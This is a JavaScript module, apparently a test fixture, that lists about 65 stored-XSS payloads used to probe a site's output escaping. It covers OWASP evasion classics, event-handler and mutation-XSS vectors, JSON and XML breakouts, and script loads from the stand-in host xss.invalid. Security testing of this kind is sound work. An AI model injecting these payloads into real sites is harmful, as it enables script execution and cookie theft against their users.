/**
 * Stored-XSS payloads: the classics of the OWASP XSS Filter Evasion Cheat
 * Sheet (script tags, event handlers, javascript: URLs hidden by case,
 * entities, whitespace and control characters, style and data: vectors),
 * HTML5 vectors, known mutation-XSS shapes, and breakouts aimed at where this
 * site puts stored text: attributes, the JSON page-data and JSON-LD script
 * blocks, and the XML feeds.
 *
 * Every payload that could run calls alert() or sets window.__xss, so a hit
 * shows as a dialog or a global, whichever way it gets through.
 */
export const XSS_PAYLOADS = [
  // Script elements
  `<script>alert('XSS1')</script>`,
  `<SCRIPT SRC=//xss.invalid/.j></SCRIPT>`,
  `<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS4");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.invalid/xss.js?< B >`,
  `</TITLE><SCRIPT>alert("XSS6");</SCRIPT>`,
  `<IMG """><SCRIPT>alert("XSS7")</SCRIPT>"\\>`,
  `<scr<script>ipt>alert('XSS8')</scr</script>ipt>`,
  // javascript: URLs and their disguises
  `<IMG SRC="javascript:alert('XSS9');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS10')>`,
  `<IMG SRC=javascript:alert(&quot;XSS11&quot;)>`,
  '<IMG SRC=`javascript:alert("XSS12")`>',
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS16');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS17');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS18');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS19');">`,
  `<a href="jav&#x09;ascript:alert('XSS20')">tab link</a>`,
  `<a href="javascript&colon;alert('XSS21')">colon entity</a>`,
  `<a href=" javascript:alert('XSS22')">leading space</a>`,
  `<a href="JaVaScRiPt:window.__xss=23">mixed case</a>`,
  `<a href="java\u0000script:alert('XSS24')">nul</a>`,
  `<a href="vbscript:msgbox('XSS25')">vbscript</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTMjYnKTwvc2NyaXB0Pg==">data url</a>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS27');">`,
  `<BODY BACKGROUND="javascript:alert('XSS28')">`,
  `<TABLE BACKGROUND="javascript:alert('XSS29')"><tr><td>t</td></tr></TABLE>`,
  `<BASE HREF="javascript:alert('XSS30');//">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS31');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS32');">`,
  // Event handlers
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83,51,51))"></img>`,
  `<IMG SRC=# onmouseover="alert('XSS34')">`,
  `<a onmouseover="alert(document.cookie)">XSS35 link</a>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS36")>`,
  `<svg/onload=alert('XSS37')>`,
  `<svg><script>alert('XSS38')</script></svg>`,
  `<details open ontoggle=alert('XSS39')>`,
  `<video><source onerror="alert('XSS40')"></video>`,
  `<xss id=x tabindex=1 autofocus onfocus=alert('XSS41')></xss>`,
  `<img src=x onerror=window.__xss=42>`,
  // Frames, objects, style
  `<iframe src="javascript:alert('XSS43')"></iframe>`,
  `<iframe srcdoc="<script>alert('XSS44')</script>"></iframe>`,
  `<object data="javascript:alert('XSS45')"></object>`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoJ1hTUzQ2JykiLz4=">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS47'))">styled</DIV>`,
  `<DIV STYLE="width: expression(alert('XSS48'));">expression</DIV>`,
  `<STYLE>@import'http://xss.invalid/xss.css';</STYLE>`,
  `<form action="javascript:alert('XSS50')"><button>go</button></form>`,
  // Mutation XSS (parser round-trip tricks)
  `<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS51')></style></mglyph></table></mtext></math>`,
  `<template><img src=x onerror=alert('XSS52')></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert('XSS53')>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('XSS54')>`,
  `<!--<img src="--><img src=x onerror=alert('XSS55')//">`,
  `<svg><p><style><img src=x onerror=alert('XSS56')></style></p></svg>`,
  // Breakouts from where the site writes stored text
  `"><script>alert('XSS57')</script>`,
  `" onmouseover="alert('XSS58')" x="`,
  `' autofocus onfocus='alert("XSS59")`,
  `</script><script>alert('XSS60')</script>`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">alert('XSS61')</script>`,
  `<?xml-stylesheet href="javascript:alert('XSS62')"?>`,
  `&lt;script&gt;alert('XSS63')&lt;/script&gt;`,
  `javascript:alert('XSS64')`,
  `line\u2028separator\u2029<script>alert('XSS65')</script>`,
];
